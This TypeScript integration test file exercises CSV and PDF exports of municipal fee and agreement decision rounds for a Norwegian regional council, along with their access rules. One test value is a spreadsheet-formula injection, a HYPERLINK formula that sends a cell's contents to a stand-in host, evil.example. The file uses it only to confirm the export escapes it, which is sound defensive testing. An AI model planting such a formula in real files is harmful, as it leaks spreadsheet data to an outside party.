import request from 'supertest';
import { TRONDHEIMSREGIONEN } from '@app/domain/testing/trondheimsregionen.fixture';
import { pdfText } from '../libs/application/src/exports/testing/pdf-text';
import { TestApi, startTestApi } from './support/api';
import { COUNCIL, decision, launchFeeRound, register } from './support/round-story';
import { clerkToken, leaderToken, secretariatToken } from './support/tokens';

const fees2022 = TRONDHEIMSREGIONEN.fees2022 as Record<string, string>;
const allocation2023 = TRONDHEIMSREGIONEN.allocation2023 as Record<string, string>;
const INJECTED = '=HYPERLINK("http://evil.example/?q="&A1,"Åpne protokoll")';

/** Collects the body as bytes, whatever its type, so the BOM and the PDF arrive untouched. */
function bytes(response: request.Response, callback: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => callback(null, Buffer.concat(chunks)));
}

// The round for the case archive, from a real api on PostgreSQL: what the secretariat files.
describe('exporting a round for the case archive', () => {
  let api: TestApi;
  let secretariat: string;
  let roundId: string;

  const download = (path: string, bearer?: string) => {
    const test = request(api.http).get(path).buffer(true).parse(bytes);
    return bearer ? test.set('Authorization', bearer) : test;
  };
  const csvRows = (body: Buffer) => body.toString('utf8').replace(/^\uFEFF/, '').split('\r\n');

  beforeAll(async () => {
    api = await startTestApi({ seed: true, now: '2022-10-01T10:00:00+02:00' });
    secretariat = `Bearer ${await secretariatToken(COUNCIL)}`;
    roundId = (await launchFeeRound(api, { title: 'Medlemsavgift 2023 – Trondheimsregionen' })).id;
    api.clock.set('2022-11-25T12:00:00+01:00');
    const registrations: Array<[string, Record<string, unknown>]> = [
      ['5001', decision('adopted', '2022-11-24', { body: 'bystyre', votes: { for: 50, against: 17, blank: 0 } })],
      ['5031', decision('adopted', '2022-11-24', { caseNumber: INJECTED, note: '@alle: formannskapet innstilte; enstemmig' })],
      ['5028', decision('postponed', '2022-11-24', { nextMeetingDate: '2022-12-08' })],
      ['5027', decision('scheduled', '2022-12-08')],
    ];
    for (const [municipality, body] of registrations) {
      const response = await register(api, roundId, municipality, body);
      if (response.status !== 200) throw new Error(`${municipality}: ${response.status} ${JSON.stringify(response.body)}`);
    }
  });

  afterAll(() => api?.close());

  it('gives the secretariat a CSV with the members, their references, the allocation to the øre and its sum, and the audit trail', async () => {
    const response = await download(`/api/rounds/${roundId}/export.csv`, secretariat).expect(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="round-${roundId.slice(0, 8)}.csv"`);
    const body = response.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = body.toString('utf8');
    const rows = csvRows(body);
    // RFC 4180: CRLF after every record, no bare line feeds outside quotes here, every record as wide as the first.
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const width = rows[0].split(';').length;
    expect(rows.slice(0, -1).every((row) => row.split(';').length >= width)).toBe(true);

    expect(csv).toMatch(/^Sak;Medlemsavgift 2023 – Trondheimsregionen;/m);
    expect(csv).toMatch(/^Råd;Trondheimsregionen \(trondheimsregionen\);/m);
    expect(csv).toMatch(/^Totalbeløp;10000000\.00;/m);
    expect(csv).toMatch(/^Frist;2022-12-15;/m);
    expect(csv).toMatch(/^Status;Åpen;/m);

    for (const { municipalityNumber, name } of TRONDHEIMSREGIONEN.members) {
      expect(rows.some((row) => row.startsWith(`${municipalityNumber};${name};`))).toBe(true);
      const line = rows.find((row) => row.startsWith(`${municipalityNumber};${name};${fees2022[municipalityNumber].replace(/\.00$/, '')};`));
      expect({ municipalityNumber, line: line?.split(';').slice(3, 5) }).toEqual({
        municipalityNumber,
        line: [fees2022[municipalityNumber], allocation2023[municipalityNumber]],
      });
    }
    expect(rows.find((row) => row.startsWith('5001;Trondheim;3320454;'))).toMatch(/^5001;Trondheim;3320454;3320454\.00;5194646\.68;1874192\.68;/);
    expect(rows.find((row) => row.startsWith('Sum;'))).toMatch(/^Sum;;;6392069\.00;10000000\.00;3607931\.00;/);

    expect(rows.find((row) => row.startsWith('5001;Trondheim;Vedtatt;'))).toMatch(
      /^5001;Trondheim;Vedtatt;adopted;nei;2022-11-24;;bystyre;2022\/1124;protokoll 2022-11-24;50;17;0;;1;/,
    );
    expect(rows.find((row) => row.startsWith('5028;Melhus;'))).toMatch(/^5028;Melhus;Utsatt;postponed;nei;2022-11-24;2022-12-08;/);
    expect(rows.find((row) => row.startsWith('5027;Midtre Gauldal;'))).toMatch(/^5027;Midtre Gauldal;Satt opp;scheduled;nei;2022-12-08;/);

    // The clerk's "case number" is shown as text, never run: a leading apostrophe, quotes doubled.
    const malvik = rows.find((row) => row.startsWith('5031;Malvik;'))!;
    expect(malvik).toContain(`;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Åpne protokoll"")";`);
    expect(malvik).toContain(`;"'@alle: formannskapet innstilte; enstemmig";`);
    expect(csv).not.toMatch(/(^|;)"?[=@+]/m);

    expect(csv).toMatch(/^Hendelseslogg;/m);
    const trail = rows.filter((row) => /^\d{4}-\d{2}-\d{2}T[^;]+;[^;]*;[^;]*;(round|decision)\.[a-z_]+;/.test(row)).map((row) => row.split(';')[3]);
    expect(trail).toEqual(['round.launched', 'decision.registered', 'decision.registered', 'decision.registered', 'decision.registered']);
    expect(csv).toMatch(/;clerk\.5031;Vedtak registrert;decision\.registered;5031 Malvik: Vedtatt \(revisjon 1\);/);
    expect(csv).toMatch(/^Generert;2022-11-25T12:00:00\+01:00;/m);
  });

  it('gives a PDF with the title, the members, the allocation and the audit trail', async () => {
    const response = await download(`/api/rounds/${roundId}/export.pdf`, secretariat).expect(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="round-${roundId.slice(0, 8)}.pdf"`);
    const pdf = response.body as Buffer;
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.subarray(-6).toString('latin1')).toMatch(/%%EOF\s*$/);
    const text = pdfText(pdf);
    for (const expected of ['Medlemsavgift 2023 – Trondheimsregionen', 'Medlemmenes vedtak', '5035 Stjørdal', '5001 Trondheim', 'Fordeling av medlemsavgift (kr)']) {
      expect(text).toContain(expected);
    }
    expect(text).toContain('5\u00a0194\u00a0646,68');
    expect(text).toContain('10\u00a0000\u00a0000,00');
    // The fees against the schedule in force: Trondheim's 2022 fee, and what the round changes it by.
    expect(text).toContain('Nåværende avgift');
    expect(text).toContain('3\u00a0320\u00a0454,00');
    expect(text).toContain('1\u00a0874\u00a0192,68');
    expect(text).not.toContain('Hva endres hvis kommunestyret vedtar');
    expect(text).toContain('Hendelseslogg');
    expect(text).toContain('5031 Malvik: Vedtatt (revisjon 1)');
  });

  it('lets exactly those who may see the round export it: the clerks of its members and the leaders; 404 for others, 401 without a token', async () => {
    for (const path of [`/api/rounds/${roundId}/export.csv`, `/api/rounds/${roundId}/export.pdf`]) {
      await download(path, `Bearer ${await clerkToken('5031')}`).expect(200);
      await download(path, `Bearer ${await leaderToken(COUNCIL)}`).expect(200);
      const stranger = await request(api.http).get(path).set('Authorization', `Bearer ${await clerkToken('0301')}`);
      expect(stranger.status).toBe(404);
      expect(stranger.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(stranger.body).toMatchObject({ status: 404, code: 'ROUND.NOT_FOUND' });
      const otherCouncil = await request(api.http).get(path).set('Authorization', `Bearer ${await leaderToken('trondheimsalliansen-ipr')}`);
      expect(otherCouncil.status).toBe(404);
      const anonymous = await request(api.http).get(path);
      expect(anonymous.status).toBe(401);
      expect(anonymous.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    const unknown = await request(api.http).get('/api/rounds/00000000-0000-4000-8000-000000000000/export.csv').set('Authorization', secretariat);
    expect(unknown.status).toBe(404);
    const malformed = await request(api.http).get('/api/rounds/not-a-round/export.pdf').set('Authorization', secretariat);
    expect(malformed.status).toBe(400);
  });

  it('shows the outcome and the decisive municipality once a round is settled', async () => {
    api.clock.set('2022-10-01T10:00:00+02:00');
    const vetoed = await launchFeeRound(api, { subject: { type: 'fees', total: '10000000.00', costKey: 'fees-2022', effectiveFrom: '2024-01-01' } });
    api.clock.set('2022-11-25T12:00:00+01:00');
    expect((await register(api, vetoed.id, '5029', decision('rejected', '2022-11-24', { votes: { for: 5, against: 16, blank: 0 } }))).status).toBe(200);
    const csv = (await download(`/api/rounds/${vetoed.id}/export.csv`, secretariat).expect(200)).body.toString('utf8');
    expect(csv).toMatch(/^Status;Avvist;/m);
    expect(csv).toMatch(/^Utfall;Avvist;/m);
    expect(csv).toMatch(/^Avgjørende kommune;5029 Skaun;/m);
    expect(csv).toMatch(/^Avgjort;2022-11-25T12:00:00\+01:00;/m);
    expect(csv).toMatch(/;Avgjort;round\.settled;Avvist, avgjørende kommune 5029 Skaun;/);
    const text = pdfText((await download(`/api/rounds/${vetoed.id}/export.pdf`, secretariat).expect(200)).body);
    expect(text).toContain('5029 Skaun');
    expect(text).toContain('Avgjørende kommune');
  });

  it('exports an agreement round with the version title and no allocation', async () => {
    const version = await request(api.http)
      .post(`/api/councils/${COUNCIL}/agreement-versions`)
      .set('Authorization', secretariat)
      .send({
        title: 'Samarbeidsavtale 2023',
        effectiveFrom: '2023-01-01',
        sections: [{ ref: '§ 1', heading: 'Navn', text: 'Rådets navn er Trondheimsregionen.' }],
        minimumContent: { a: '§ 1', b: '§ 2', c: '§ 5', d: '§ 3', e: '§ 4', f: '§ 9', g: '§ 11', h: '§ 12' },
      })
      .expect(201);
    const launched = await request(api.http)
      .post(`/api/councils/${COUNCIL}/rounds`)
      .set('Authorization', secretariat)
      .send({ subject: { type: 'agreement', versionId: version.body.id }, deadline: '2023-03-01', title: 'Ny samarbeidsavtale' })
      .expect(201);
    const csv = (await download(`/api/rounds/${launched.body.id}/export.csv`, secretariat).expect(200)).body.toString('utf8');
    expect(csv).toMatch(/^Emne;Samarbeidsavtale;/m);
    expect(csv).toMatch(/^Avtaleversjon;Samarbeidsavtale 2023;/m);
    expect(csv).not.toContain('Fordeling av medlemsavgift');
    const text = pdfText((await download(`/api/rounds/${launched.body.id}/export.pdf`, secretariat).expect(200)).body);
    expect(text).toContain('Ny samarbeidsavtale');
    expect(text).not.toContain('Fordeling av medlemsavgift');
    expect(text).toContain('Hva endres hvis kommunestyret vedtar');
    expect(text).toContain('Ingen samarbeidsavtale er i kraft 25.11.2022. Dette er den første versjonen: all teksten er ny.');
    expect(text).toContain('§ 1 Navn (ny)');
  });

  it('shows in the PDF of an agreement round what changes against the agreement in force: the changed words of a section, the unchanged ones summarised', async () => {
    const sections2020 = [
      { ref: '§ 1', heading: 'Navn', text: 'Rådets navn er Trondheimsregionen.' },
      { ref: '§ 2', heading: 'Formål', text: 'Rådet er et samarbeidsorgan for kommunene.' },
      { ref: '§ 3', heading: 'Oppgaver', text: 'Rådet arbeider med samferdsel og næring.' },
      { ref: '§ 4', heading: 'Representantskapet', text: 'Hver deltaker har ni medlemmer i representantskapet.' },
      { ref: '§ 5', heading: 'Arbeidsutvalg', text: 'Rådet har et arbeidsutvalg på fem medlemmer.' },
    ];
    const sections2024 = [
      ...sections2020.slice(0, 3),
      { ref: '§ 4', heading: 'Representantskapet', text: 'Hver deltaker har to medlemmer i representantskapet.' },
      { ref: '§ 6', heading: 'Sekretariat', text: 'Sekretariatet ligger i Trondheim kommune.' },
    ];
    const minimumContent = { a: '§ 1', b: '§ 1', c: '§ 4', d: '§ 2', e: '§ 3', f: '§ 4', g: '§ 5', h: '§ 5' };
    const create = async (title: string, effectiveFrom: string, sections: typeof sections2020) =>
      (
        await request(api.http)
          .post(`/api/councils/${COUNCIL}/agreement-versions`)
          .set('Authorization', secretariat)
          .send({ title, effectiveFrom, sections, minimumContent })
          .expect(201)
      ).body.id as string;
    const inForce = await create('Samarbeidsavtale 2020', '2020-07-01', sections2020);
    await request(api.http)
      .post(`/api/councils/${COUNCIL}/agreement-versions/${inForce}/adopted-before`)
      .set('Authorization', secretariat)
      .send({ adoptedOn: '2020-06-18', reason: 'Vedtatt i alle kommunestyrene i 2020' })
      .expect(200);
    const proposed = await create('Samarbeidsavtale 2024', '2024-01-01', sections2024);
    const launched = await request(api.http)
      .post(`/api/councils/${COUNCIL}/rounds`)
      .set('Authorization', secretariat)
      .send({ subject: { type: 'agreement', versionId: proposed }, deadline: '2023-03-01', title: 'Samarbeidsavtale 2024' })
      .expect(201);

    const text = pdfText((await download(`/api/rounds/${launched.body.id}/export.pdf`, `Bearer ${await clerkToken('5031')}`).expect(200)).body);
    const lines = text.split('\n').map((line) => line.trim());
    expect(text).toContain('Hva endres hvis kommunestyret vedtar');
    expect(text).toContain('Sammenlignet med samarbeidsavtalen i kraft 25.11.2022: Samarbeidsavtale 2020.');
    expect(lines).toContain('§ 1–§ 3 uendret');
    expect(lines).toContain('§ 4 Representantskapet (endret)');
    // The words taken out and put in are parts of their own, struck through and underlined.
    const section4 = lines.slice(lines.indexOf('§ 4 Representantskapet (endret)'));
    expect(section4.slice(1, 5)).toEqual(['Hver deltaker har', 'ni', 'to', 'medlemmer i representantskapet.']);
    expect(lines).toContain('§ 6 Sekretariat (ny)');
    expect(lines).toContain('Sekretariatet ligger i Trondheim kommune.');
    expect(lines).toContain('§ 5 Arbeidsutvalg (tas ut)');
    expect(lines).toContain('Rådet har et arbeidsutvalg på fem medlemmer.');
    expect(text).not.toContain('Rådet arbeider med samferdsel og næring.');
  });
});
